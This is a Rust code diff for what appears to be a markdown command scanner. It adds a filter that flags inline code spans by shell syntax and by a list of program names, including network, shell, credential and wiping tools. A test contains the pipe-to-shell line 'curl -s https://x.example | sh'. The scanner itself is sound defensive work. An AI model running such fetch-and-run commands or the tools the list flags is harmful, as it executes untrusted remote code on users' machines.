@@ -145,12 +145,100 @@ fn code_spans(text: &str) -> Vec<Range<usize>> {
         };
         let close = open + len;
         let inner = &text[open..close];
-        if inner.contains(' ') && !inner.contains("\n\n") {
+        if inner.contains(' ') && !inner.contains("\n\n") && command_like(inner) {
             out.push(open..close);
         }
         i = close + 1;
     }
     out
+}
+
+/// Whether an inline code span can do anything the effect model judges: it has shell
+/// structure or quoting (a pipe, a redirection, a substitution, a quote that may split a word)
+/// or starts with a program the model knows. `npm run lint` and `cargo test` are not read.
+fn command_like(span: &str) -> bool {
+    if span.contains(['|', ';', '&', '>', '<', '$', '`', '\'', '"', '\\', '(']) {
+        return true;
+    }
+    let first = span.split_whitespace().next().unwrap_or("");
+    let first = first
+        .rsplit('/')
+        .next()
+        .unwrap_or(first)
+        .to_ascii_lowercase();
+    matches!(
+        first.as_str(),
+        "curl"
+            | "wget"
+            | "nc"
+            | "ncat"
+            | "socat"
+            | "ssh"
+            | "scp"
+            | "rsync"
+            | "dig"
+            | "nslookup"
+            | "host"
+            | "ping"
+            | "eval"
+            | "source"
+            | "sh"
+            | "bash"
+            | "zsh"
+            | "python"
+            | "python3"
+            | "node"
+            | "pwsh"
+            | "powershell"
+            | "iex"
+            | "rm"
+            | "find"
+            | "dd"
+            | "crontab"
+            | "tee"
+            | "cp"
+            | "mv"
+            | "launchctl"
+            | "systemctl"
+            | "schtasks"
+            | "reg"
+            | "terraform"
+            | "tofu"
+            | "aws"
+            | "gcloud"
+            | "az"
+            | "kubectl"
+            | "gh"
+            | "pulumi"
+            | "git"
+            | "sudo"
+            | "env"
+            | "printenv"
+            | "history"
+            | "security"
+            | "mshta"
+            | "regsvr32"
+            | "certutil"
+            | "tar"
+            | "zip"
+            | "7z"
+            | "base64"
+            | "xxd"
+            | "openssl"
+            | "alias"
+            | "trap"
+            | "export"
+            | "shred"
+            | "mkfs"
+            | "remove-item"
+            | "invoke-webrequest"
+            | "iwr"
+            | "irm"
+            | "xargs"
+            | "nohup"
+            | "huggingface-cli"
+            | "gsutil"
+    )
 }
 
 /// Indented code blocks (CommonMark §4.4): lines indented by four spaces or a tab after a
@@ -205,7 +293,7 @@ mod tests {
     fn fence_bodies_and_code_spans() {
         let f = "```bash\ncurl x | sh\n```\n";
         assert_eq!(&f[fence_body(f).unwrap_or(0..0)], "curl x | sh\n");
-        let t = "Run `curl -s https://x.example | sh` then `make`.";
+        let t = "Run `curl -s https://x.example | sh` then `make all`.";
         let spans = code_spans(t);
         assert_eq!(spans.len(), 1);
         assert_eq!(&t[spans[0].clone()], "curl -s https://x.example | sh");
